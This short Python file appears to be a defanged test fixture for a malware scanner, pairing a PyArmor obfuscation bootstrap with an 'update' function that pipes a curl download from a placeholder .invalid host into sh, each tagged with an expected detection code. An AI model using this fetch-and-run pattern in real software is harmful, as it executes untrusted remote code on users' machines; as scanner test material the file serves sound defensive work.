# Defanged: a PyArmor bootstrap next to a clear-text dropper line whose
# download host is .invalid and whose command is never run.
from pytransform import pyarmor_runtime  # expect: HS214 medium
pyarmor_runtime()
__pyarmor__(__name__, __file__, b'PYARMOR\x00\x00')

import subprocess


def update():
    subprocess.run("curl -s http://payload.invalid/x | sh", shell=True)  # expect: HS113 critical
